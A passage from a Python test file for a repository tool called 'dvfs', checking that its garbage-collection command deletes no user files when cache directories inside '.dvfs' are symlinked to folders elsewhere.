    root, home = tmp_path / "repo", tmp_path / "home"
    repo = Repository.init(root)
    write(root, "d/a", b"a\n")
    commit(repo, "one", top="d")
    docs = tmp_path / "docs"
    (docs / "notes").mkdir(parents=True)
    (docs / "thesis.txt").write_bytes(b"years of work\n")
    (docs / "notes" / "n.txt").write_bytes(b"notes\n")
    where = root / ".dvfs" / linked
    where.parent.mkdir(parents=True, exist_ok=True)
    shutil.rmtree(where, ignore_errors=True)
    where.symlink_to(docs)
    assert_ok(dvfs(root, home, "gc"))
    assert sorted(os.listdir(docs)) == ["notes", "thesis.txt"]
    assert os.listdir(docs / "notes") == ["n.txt"]
    where.unlink()
    assert_ok(dvfs(root, home, "show"))
    fsck_clean(root)


def test_gc_deletes_nothing_through_a_linked_row_cache(tmp_path: Path) -> None:
    """``.dvfs/rowcache`` a link to a directory elsewhere: `dvfs gc` deleted the files
    there that looked like its whole-file copies. Nothing is deleted through the link."""
    root, home = tmp_path / "repo", tmp_path / "home"
    repo = Repository.init(root)
    write(root, "d/a", b"a\n")
    commit(repo, "one", top="d")
    docs = tmp_path / "docs"
    docs.mkdir()
    names = [f"f{i}{COPY_SUFFIX}" for i in range(3)] + ["thesis.txt"]
    for name in names:
        (docs / name).write_bytes(b"kept\n")
    (root / ".dvfs" / "rowcache").symlink_to(docs)
    assert_ok(dvfs(root, home, "gc"))
    assert sorted(os.listdir(docs)) == sorted(names)
    (root / ".dvfs" / "rowcache").unlink()
    fsck_clean(root)
